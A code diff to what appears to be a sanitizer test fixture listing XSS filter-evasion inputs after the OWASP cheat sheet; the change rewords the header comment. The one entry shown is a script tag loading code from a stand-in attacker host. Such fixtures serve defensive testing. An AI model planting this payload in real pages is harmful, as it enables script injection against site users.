@@ -1,7 +1,6 @@
 /**
- * Ways to get a script past a filter of HTML, as the OWASP cheat sheet on filter evasion collects them, and some of
- * later date. None may leave anything behind that runs, loads from elsewhere or changes the page around it.
- * Source: https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
+ * None may leave anything behind that runs, loads from elsewhere or changes the page around it. Source:
+ * https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, and some of later date.
  */
 export const filterEvasions = {
   'a plain script': '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
